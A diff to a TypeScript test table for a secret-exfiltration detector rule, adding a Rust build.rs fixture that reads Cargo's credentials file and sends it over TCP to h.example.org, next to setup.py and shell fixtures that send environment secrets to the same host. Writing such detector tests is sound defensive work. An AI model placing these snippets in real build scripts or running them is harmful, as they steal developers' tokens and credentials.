@@ -257,6 +257,15 @@ const rows: readonly Row[] = [
       "import os\nfrom http.client import HTTPSConnection\ndef note(pairs):\n  HTTPSConnection('h.example.org').request('PUT', '/', ','.join(f'{k}={v}' for k, v in pairs))\ndef main():\n  note([(k, os.environ[k]) for k in ('A_TOKEN', 'A_URL')])\n",
     ],
   ].map(([fires = "", silent = ""]): Row => ({ rule: "flow/secret-leaves", fires: { "setup.py": fires }, silent: { "setup.py": silent } })),
+  ...[
+    // What cargo logs in with, and what it builds.
+    ["credentials", "Cargo"],
+  ].map(([fires = "", silent = ""]): Row => {
+    const of = (name: string): Files => ({
+      "build.rs": `use std::io::Write;\nfn main() {\n  let dir = std::env::var("CARGO_HOME").or_else(|_| std::env::var("HOME").map(|h| h + "/.cargo")).unwrap();\n  let stem = "${name}";\n  let it = std::fs::read(format!("{dir}/{stem}.toml")).unwrap();\n  std::net::TcpStream::connect(("h.example.org", 80)).unwrap().write_all(&it);\n}\n`,
+    })
+    return { rule: "flow/secret-leaves", fires: of(fires), silent: of(silent) }
+  }),
   {
     rule: "flow/secret-leaves",
     fires: { configure: "#!/bin/sh\nenv | base64 | curl -d @- http://h.example.org\n" },
